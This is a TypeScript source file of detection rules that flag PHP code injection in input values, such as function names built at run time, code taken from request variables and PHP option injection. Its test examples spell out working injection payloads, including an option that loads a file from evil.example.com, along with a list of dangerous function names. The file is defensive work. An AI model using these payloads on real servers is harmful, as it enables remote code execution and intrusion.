import { compileSequences, findSequence } from '../../placement/code-sequence.ts';
import { confidence } from '../../placement/confidence.ts';
import { firstOf, foundBy } from '../../placement/evidence.ts';
import type { Subject } from '../../placement/subject.ts';
import { charClass } from '../../text/char-class.ts';
import { firstMatch, type Shape } from '../../text/shape.ts';
import { wordList, wordSet } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/** `(sy.st.em)(id)`, `('sys'.'tem')('id')`, `(~…)(…)`, `usort(...$_GET)`: names put together. */
export const phpDynamic: ValueRule = {
  id: 'code.php-dynamic',
  score: confidence.certain,
  message: 'calls a PHP function by a name that is put together at run time',
  trigger: {
    classes: charClass.paren,
    literals: [[')(', "'(", '"(', '(~', '...$', "'^'", '"^"', '`^', ';$', "'^", '"^']],
  },
  judge: judgeDynamic,
  examples: [
    ...['(sy.st.em)(id);', "('sys'.'tem')('id')", '"sys"."tem"("id")', 'usort(...$_GET);'],
    ...["$f='system';$f('id');", "$_=('1'^'`').('2'^'`');$_($_POST[1]);"],
    '(~\u008c\u0086)(~\u0093);',
  ],
  lookalikes: [
    ...['(module.exports)(app)', "const f = (a.b.c)('x');", "total = ('a' + 'b')('c')"],
    "'system' (the new one) is ready",
    `see "exec"(3) and 'system'(3)`,
    ...['(~5)(x)', 'c = "a" ^ "b"', 'list.push(...items)'],
  ],
};

const functionNames: ReadonlySet<string> = wordSet(
  `system exec shell_exec passthru popen proc_open pcntl_exec eval assert phpinfo readfile
   create_function file_get_contents file_put_contents call_user_func call_user_func_array
   array_map show_source highlight_file getenv putenv ini_set mail unlink include`,
);

function judgeDynamic(subject: Subject): Match | undefined {
  const text = subject.text;
  const form = firstMatch(text, forms);
  if (form !== null) return foundBy(form);
  for (const match of firstOf(subject, text.matchAll(callee))) {
    const name = match[0].replace(joints, '').toLowerCase();
    const isNamed = isSentence(match[0]) || number.test(text.slice(match.index + match[0].length));
    if (functionNames.has(name) && !isNamed) return foundBy(match);
  }
  return assigned(text);
}

/** One name in quotes with a blank after it is a word that is quoted. */
function isSentence(called: string): boolean {
  return called.includes(' ') && !called.includes('.');
}

/** The section of a manual, `'system'(3)`; no function of these does harm with a number. */
const number = /^\d{1,2}\)/;

/** Pieces of a name, in quotes or without, joined by dots, and called. */
const callee =
  /(?:\({1,2}(?:["']?\w{1,24}["']? {0,2}\. {0,2}){1,12}["']?\w{1,24}["']?\){1,2}|\(?["']\w{2,24}["']\)?|(?:["']\w{1,24}["'] {0,2}\. {0,2}){1,12}["']\w{1,24}["']) ?\(/g;
const joints = /[^A-Za-z0-9_]/g;

const forms: readonly Shape[] = [
  { pattern: /\( {0,2}\.\.\. {0,2}\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b/, needs: ['...'] },
  {
    pattern:
      /\(~ {0,2}(?:["'][^"'\n]{1,60}["']|%[0-9A-Fa-f]{2}[^()\n]{0,60}|[^\x00-\x7f][^()\n]{0,60})\) {0,2}\(/,
    needs: ['(~'],
  },
  {
    pattern: /['"`)] {0,2}\^ {0,2}['"`][^'"\n]{1,24}['"`]\)? {0,2}\. {0,2}\(? {0,2}['"`]/,
    needs: ['^'],
  },
  {
    pattern: /["'][^"'\n]{1,24}["'] {0,2}\^ {0,2}["'][^"'\n]{1,24}["'] {0,2}\)\)? {0,2}\(/,
    needs: ['^'],
  },
  { pattern: /\$_{1,6} {0,2}= {0,2}[^;\n]{1,120}; {0,2}\$_{1,6} {0,2}\(/, needs: ['$_'] },
  {
    pattern: /\$\{ {0,2}["']?_(?:GET|POST|REQUEST)["']? {0,2}\}(?:\[[^\]\n]{1,20}\]){0,2} {0,2}\(/,
    needs: ['${'],
  },
];

/** `$f='system';$f(…)` */
function assigned(text: string): Match | undefined {
  const match = assignment.exec(text);
  return functionNames.has(match?.[2]?.toLowerCase() ?? '') ? foundBy(match) : undefined;
}

const assignment = /\$(\w{1,24}) {0,2}= {0,2}["'](\w{2,24})["'] {0,2}[;,][^\n]{0,80}\$\1 {0,2}\(/;

/** `include $_GET['f']`, `$_POST[0]($_POST[1])`: code that runs what the next request brings. */
export const phpInput: ValueRule = {
  id: 'code.php-input',
  score: confidence.certain,
  message: 'is PHP that takes its code or its file from a request',
  trigger: { literals: [['$_', '$globals', '$http_raw']] },
  judge: (subject) => findSequence(subject, inputSequences),
  examples: [
    ...["include $_GET['f'];", '$_GET[0]($_GET[1])', "$_POST['a']($_POST['b'])", '`$_GET[c]`'],
    "${$_REQUEST['x']}",
  ],
  lookalikes: [
    'In PHP, $_GET holds the query and $_POST the form',
    ...["echo htmlspecialchars($_GET['name']);", 'a $_ b', '$_SESSION is empty after log-in'],
  ],
};

const inputs =
  '$_get|$_post|$_request|$_cookie|$_server|$_files|$_env|$globals|$http_raw_post_data';

const inputSequences = compileSequences([
  { pattern: `include|require|include_once|require_once ${inputs}`, score: confidence.certain },
  { pattern: `${inputs} [ * ] (`, score: confidence.certain },
  { pattern: `${inputs} [ ' * ' ] (`, score: confidence.certain },
  { pattern: `${inputs} [ ' * ' ]`, score: confidence.hint },
  { pattern: `\` ${inputs} [`, score: confidence.strong },
  { pattern: `{ ${inputs} [`, score: confidence.strong, inProse: confidence.hint },
  { pattern: `eval|system|exec|assert|passthru|popen ${inputs}`, score: confidence.strong },
]);

/** `-d allow_url_include=1 -d auto_prepend_file=php://input`: options for PHP's command line. */
export const phpOption: ValueRule = {
  id: 'code.php-option',
  cwe: 'CWE-88',
  score: confidence.certain,
  message: 'switches PHP options on that make it run the body of the request',
  trigger: {
    literals: [
      wordList(
        'allow_url_include auto_prepend_file auto_append_file disable_functions',
        'open_basedir safe_mode suhosin.simulation cgi.force_redirect',
      ),
    ],
  },
  judge: ({ text }) => foundBy(option.exec(text)),
  examples: [
    '-d allow_url_include=on -d auto_prepend_file=php://input',
    'allow_url_include=1&auto_prepend_file=data://text/plain,x',
    '-dauto_append_file=http://evil.example.com/a',
    '-d disable_functions= -d open_basedir=none',
  ],
  lookalikes: [
    ...['Set allow_url_include = Off in php.ini', 'auto_prepend_file = none'],
    ...['What is disable_functions for?', 'my host has open_basedir on'],
  ],
};

const option =
  /(?:auto_(?:prepend|append)_file {0,2}= {0,2}["']?(?:php:|data:|https?:|ftp:|\/|\.\.)|-d ?(?:allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_functions|open_basedir|safe_mode|suhosin\.simulation|cgi\.force_redirect)=)[^\s]{0,80}/i;

/** The whole value is one PHP statement: `phpinfo()`, `${@print('x')}`. */
export const phpStatement: ValueRule = {
  id: 'code.php-statement',
  severity: 'high',
  score: confidence.strong,
  message: 'is one statement of PHP, put where PHP would run it',
  trigger: {
    classes: charClass.paren,
    literals: [
      wordList('phpinfo ${@ {${ phpversion php_uname getcwd get_current_user print( sleep('),
    ],
  },
  judge: judgeStatement,
  examples: [
    ...['phpinfo()', '${@print(1)}', '|| phpinfo()', '{${sleep(5)}}', "'.phpinfo().'"],
    '1;php_uname()',
  ],
  lookalikes: [
    ...['phpinfo() shows nothing at all', 'How do I use getcwd()?', 'print(total)'],
    '${print} and {$name}',
  ],
};

function judgeStatement(subject: Subject): Match | undefined {
  const text = subject.text;
  const complex = complexVariable.exec(text);
  if (complex !== null) return foundBy(complex, confidence.certain);
  return text.length > statementMax ? undefined : foundBy(statement.exec(text));
}

const statementMax = 80;
/** PHP's `${expression}` in a string: a call with `@` before it, or in double braces. */
const complexVariable = /(?:\$\{@|\{\$\{@?)[A-Za-z_]{2,30} {0,2}\(/;
const statement =
  /^(?:[^\s(]{0,12}[\s;|&'"`.)\]}]{1,4})?(?:phpinfo|phpversion|php_uname|getcwd|get_current_user|sys_getloadavg)\(\)[\s;|&'"`.)\]}/#-]{0,8}$/i;
